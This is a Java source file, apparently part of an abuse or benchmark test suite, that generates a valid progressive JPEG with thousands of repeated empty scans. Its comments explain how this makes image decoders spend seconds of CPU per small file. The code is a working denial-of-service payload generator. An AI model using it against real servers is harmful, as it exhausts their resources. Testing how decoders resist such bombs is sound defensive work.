package parley.bench.abuse;

import java.io.ByteArrayOutputStream;

/**
 * A small, valid progressive JPEG with thousands of scans: a grey picture of {@code width} x
 * {@code height} whose first scan codes every DC coefficient as zero and whose other scans are
 * all the same empty AC scan (coefficients 1 to 63, every block ends at once, coded as a few
 * end-of-band runs). Each scan is a few dozen bytes, whatever the picture's size; yet a decoder that
 * renders every scan (Java's JPEG reader renders each one of a progressive picture in turn) pays a
 * full decode of the picture per scan, and holds its coefficients (2 bytes each, 64 per block) for
 * the whole time. So a file of tens of kilobytes costs the server seconds of a core.
 *
 * <p>Repeating a scan with the same successive-approximation bits is what a real encoder never
 * writes; decoders accept it (nothing in the bits is contradictory). Pure function of its
 * arguments; thread-safe.
 */
public final class ProgressiveJpegBomb {
    /** Largest end-of-band run one symbol codes: 2^14 + (2^14 - 1). */
    private static final int MAX_RUN = 32_767;

    private ProgressiveJpegBomb() {
    }

    /** The bytes of a {@code width} x {@code height} grey progressive JPEG with {@code scans} scans (at least 2). */
    public static byte[] bytes(int width, int height, int scans) {
        if (width < 8 || height < 8 || width > 65_535 || height > 65_535 || scans < 2) {
            throw new IllegalArgumentException("a bomb needs 8..65535 pixels a side and 2 or more scans: "
                    + width + "x" + height + ", " + scans);
        }
        long blocks = (long) ((width + 7) / 8) * ((height + 7) / 8);
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        marker(out, 0xD8);
        jfif(out);
        quantization(out);
        frame(out, width, height);
        huffmanTables(out);
        scanHeader(out, 0, 0);
        out.writeBytes(dcScan(blocks));
        byte[] ac = acScan(blocks);
        for (int i = 1; i < scans; i++) {
            scanHeader(out, 1, 63);
            out.writeBytes(ac);
        }
        marker(out, 0xD9);
        return out.toByteArray();
    }

    private static void marker(ByteArrayOutputStream out, int code) {
        out.write(0xFF);
        out.write(code);
    }

    private static void segment(ByteArrayOutputStream out, int code, byte[] body) {
        marker(out, code);
        int length = body.length + 2;
        out.write(length >> 8);
        out.write(length & 0xFF);
        out.writeBytes(body);
    }

    private static void jfif(ByteArrayOutputStream out) {
        segment(out, 0xE0, new byte[] {'J', 'F', 'I', 'F', 0, 1, 1, 0, 0, 1, 0, 1, 0, 0});
    }

    /** Table 0, 8-bit, every step 1. */
    private static void quantization(ByteArrayOutputStream out) {
        byte[] body = new byte[65];
        for (int i = 1; i < body.length; i++) {
            body[i] = 1;
        }
        segment(out, 0xDB, body);
    }

    /** SOF2: progressive, 8 bits, one component (id 1, 1x1 sampling, table 0). */
    private static void frame(ByteArrayOutputStream out, int width, int height) {
        segment(out, 0xC2, new byte[] {8, (byte) (height >> 8), (byte) height, (byte) (width >> 8), (byte) width,
                1, 1, 0x11, 0});
    }

    /**
     * DC table 0: one code, "0", for category 0 (no difference). AC table 0: the fifteen
     * end-of-band run symbols {@code r << 4} (r = 0..14), 4 bits each: code {@code r}.
     */
    private static void huffmanTables(ByteArrayOutputStream out) {
        ByteArrayOutputStream body = new ByteArrayOutputStream();
        body.write(0x00);
        body.write(1);
        body.writeBytes(new byte[15]);
        body.write(0);
        body.write(0x10);
        body.write(0);
        body.write(0);
        body.write(0);
        body.write(15);
        body.writeBytes(new byte[12]);
        for (int r = 0; r < 15; r++) {
            body.write(r << 4);
        }
        segment(out, 0xC4, body.toByteArray());
    }

    private static void scanHeader(ByteArrayOutputStream out, int start, int end) {
        segment(out, 0xDA, new byte[] {1, 1, 0x00, (byte) start, (byte) end, 0});
    }

    /** A first DC scan: one zero bit (category 0) per block. */
    private static byte[] dcScan(long blocks) {
        BitWriter bits = new BitWriter();
        for (long i = 0; i < blocks; i++) {
            bits.write(0, 1);
        }
        return bits.finish();
    }

    /** A first AC scan where every block is empty: end-of-band runs covering all blocks. */
    private static byte[] acScan(long blocks) {
        BitWriter bits = new BitWriter();
        long left = blocks;
        while (left > 0) {
            int run = (int) Math.min(left, MAX_RUN);
            int r = 31 - Integer.numberOfLeadingZeros(run);
            bits.write(r, 4);
            if (r > 0) {
                bits.write(run - (1 << r), r);
            }
            left -= run;
        }
        return bits.finish();
    }

    /** Entropy-coded bits, most significant first, with a 0x00 stuffed after every 0xFF. */
    private static final class BitWriter {
        private final ByteArrayOutputStream out = new ByteArrayOutputStream();
        private int current;
        private int used;

        void write(int value, int count) {
            for (int i = count - 1; i >= 0; i--) {
                current = (current << 1) | ((value >> i) & 1);
                if (++used == 8) {
                    flushByte();
                }
            }
        }

        byte[] finish() {
            while (used != 0) {
                write(1, 1);
            }
            return out.toByteArray();
        }

        private void flushByte() {
            out.write(current);
            if (current == 0xFF) {
                out.write(0);
            }
            current = 0;
            used = 0;
        }
    }
}
